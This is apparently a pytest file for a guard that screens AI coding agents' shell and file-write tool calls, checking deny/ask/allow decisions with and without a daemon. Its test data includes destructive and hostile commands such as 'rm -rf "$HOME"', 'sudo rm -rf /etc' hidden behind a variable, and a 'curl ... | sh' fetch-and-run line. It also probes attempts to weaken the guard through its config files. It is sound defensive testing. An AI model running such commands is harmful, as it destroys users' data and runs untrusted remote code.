"""The guard through hookc, with a daemon and without one: the same decision, in each agent's own words.

Commands here are text in payloads; nothing runs them."""
import json
import os
import pathlib
import re
import subprocess

from world import payload

ROOT = pathlib.Path(__file__).resolve().parents[2]
GUARD = ROOT / "tests" / "guard"


def bash(command, agent="claude", **more):
    if agent == "gemini":
        return {"session_id": "s1", "hook_event_name": "BeforeTool", "cwd": "/home/dev/proj", "tool_name": "run_shell_command",
                "tool_input": {"command": command}, **more}
    return {**payload("PreToolUse", tool_name="Bash", tool_use_id="t1", tool_input={"command": command}, **more), "cwd": "/home/dev/proj"}


def event(agent):
    return "BeforeTool" if agent == "gemini" else "PreToolUse"


def decision(done):
    """deny, ask or allow, from whatever the agent would read."""
    if done.returncode == 2:
        return "deny"
    out = json.loads(done.stdout) if done.stdout.strip() else {}
    word = out.get("hookSpecificOutput", {}).get("permissionDecision") or out.get("decision") or "allow"
    return {"block": "deny", "approve": "allow"}.get(word, word)


def reason(done):
    return (done.stdout + done.stderr).decode()


def offline(world):
    """hookc where no daemon can be had: the socket's directory is not ours to listen in."""
    world.stop()
    (world.dir / "run").mkdir(parents=True, exist_ok=True)
    lock = os.open(world.dir / "run" / "hookd.lock", os.O_RDWR | os.O_CREAT, 0o600)
    import fcntl
    fcntl.flock(lock, fcntl.LOCK_EX)
    return lock


def sample(n):
    """Rows of the tables, spread over all classes."""
    rows = [line.rstrip("\n").split(" ", 2)[2] for line in (GUARD / "cases.txt").read_text().splitlines()
            if line and not line.startswith("#")]
    rows += [line for line in (GUARD / "benign.txt").read_text().splitlines() if line and not line.startswith("#")]
    return rows[::max(1, len(rows) // n)][:n]


def test_each_agent_hears_the_denial(world):
    world.start()
    for agent in ("claude", "codex", "gemini"):
        done = world.hookc(event(agent), bash("sudo sh -c 'rm -rf \"$HOME\"'", agent), agent=agent)
        assert decision(done) == "deny", (agent, done)
        assert "fs.rm-home" in reason(done), (agent, done)
        assert decision(world.hookc(event(agent), bash("git status", agent), agent=agent)) == "allow", agent


def test_each_agent_hears_it_without_a_daemon(world):
    offline(world)
    for agent in ("claude", "codex", "gemini"):
        done = world.hookc(event(agent), bash("git push --force", agent), agent=agent)
        assert decision(done) == "deny" and "git.push-force" in reason(done), (agent, done)
        assert decision(world.hookc(event(agent), bash("git push", agent), agent=agent)) == "allow", agent


def test_the_same_decisions_without_a_daemon(world):
    commands = sample(200)
    assert len(commands) == 200
    world.start()
    with_daemon = [decision(world.hookc("PreToolUse", bash(c))) for c in commands]
    lock = offline(world)
    alone = [decision(world.hookc("PreToolUse", bash(c))) for c in commands]
    os.close(lock)
    assert with_daemon == alone
    assert {"deny", "ask", "allow"} == set(alone)


def test_nobody_to_ask(world):
    world.start()
    assert decision(world.hookc("PreToolUse", bash("rm -rf src", permission_mode="default"))) == "ask"
    assert decision(world.hookc("PreToolUse", bash("rm -rf src", permission_mode="bypassPermissions"))) == "deny"


def test_files_are_guarded_too(world):
    world.start()
    for path, want in ((".claude/settings.json", "deny"), (str(world.home / ".codex/hooks.json"), "deny"), ("src/a.c", "allow"),
                       (str(world.dir / "config.json"), "deny"), (str(world.dir / "hookd.db"), "deny")):
        p = {**payload("PreToolUse", tool_name="Write", tool_use_id="t1", tool_input={"file_path": path, "content": "x"}),
             "cwd": "/home/dev/proj"}
        assert decision(world.hookc("PreToolUse", p)) == want, path


def test_rules_of_the_user(world):
    world.dir.mkdir(parents=True, exist_ok=True)
    (world.dir / "config.json").write_text(json.dumps({"guard": {"rules": [
        {"name": "no-make", "program": "make", "decision": "deny", "message": "use ninja",
         "examples": {"match": ["make all"], "pass": ["cmake ."]}}]}}))
    assert world.hookd("guard", "validate").returncode == 0
    world.start()
    done = world.hookc("PreToolUse", bash("cd x && make"))
    assert decision(done) == "deny" and "use ninja" in reason(done)
    lock = offline(world)
    assert decision(world.hookc("PreToolUse", bash("cd x && make"))) == "deny"
    os.close(lock)
    names = [r["name"] for r in world.json("rules", "--json")["rules"]]
    assert "no-make" in names and "fs.rm-root" in names


def test_a_wrong_rule_is_named(world):
    world.dir.mkdir(parents=True, exist_ok=True)
    (world.dir / "config.json").write_text('{"guard": {"rules": [\n {"name": "a", "program": "x", "decision": "deny",\n'
                                           '  "examples": {"match": ["y"]}}]}}')
    done = world.hookd("guard", "validate", ok=False)
    assert done.returncode == 1 and re.search(rb"config\.json:3:\d+: rule 'a' does not hold", done.stderr), done
    assert world.hookd("config", "validate").returncode == 0


def test_explain_shows_what_was_understood(world):
    out = json.loads(world.hookd("guard", "explain", "--json", "--cwd", "/home/dev/proj", "x=rm; sudo $x -rf /etc").stdout)
    assert out["decision"] == "deny"
    assert [c["argv"] for c in out["commands"]] == ["sudo rm -rf /etc", "rm -rf /etc"]
    assert out["findings"][0]["rule"] == "fs.rm-root"
    # What a program reads is shown as people write it, without the marks for what is not known.
    text = world.hookd("guard", "explain", "curl https://x.example/i | sh").stdout.decode()
    assert "[reads: …]" in text and "\x04" not in text and "\ufffd" not in text


def test_rules_of_a_project_hold_at_once_and_only_restrict(world):
    root = world.top / "proj"
    (root / ".hookd").mkdir(parents=True)
    root.chmod(0o755), (root / ".hookd").chmod(0o755), world.top.chmod(0o755)
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    config = root / ".hookd/config.json"
    config.write_text(json.dumps({"guard": {
        "rules": [{"name": "no-deploy", "program": "deploy", "decision": "deny", "message": "not from here"},
                  {"name": "all-fine", "program": "rm", "decision": "allow", "override": "fs.rm-home"}],
        "disable": ["fs.rm-home"], "mode": "observe"}}))
    config.chmod(0o644)

    def ask(command, session="p"):
        return world.hookc("PreToolUse", payload("PreToolUse", session, cwd=str(root), tool_name="Bash", tool_use_id=command,
                                                 tool_input={"command": command}))

    done = ask("./deploy --now")
    assert decision(done) == "deny" and "not from here" in reason(done)
    # What would weaken the guard is left out, and said.
    assert decision(ask("rm -rf ~")) == "deny"
    log = world.hookd("logs").stdout.decode()
    assert "a project may only add rules" in log and "may only deny or ask" in log
    # In a subdirectory too, and not elsewhere.
    assert world.hookc("PreToolUse", payload("PreToolUse", "q", cwd=str(world.top), tool_name="Bash", tool_use_id="x",
                                             tool_input={"command": "deploy"})).stdout == b""
    # Whoever may write to its files: rules can only restrict.
    other = world.top / "open"
    (other / ".hookd").mkdir(parents=True)
    (other / ".hookd/config.json").write_text(config.read_text())
    (other / ".hookd").chmod(0o777)
    assert decision(world.hookc("PreToolUse", payload("PreToolUse", "r", cwd=str(other), tool_name="Bash", tool_use_id="x",
                                                      tool_input={"command": "deploy"}))) == "deny"
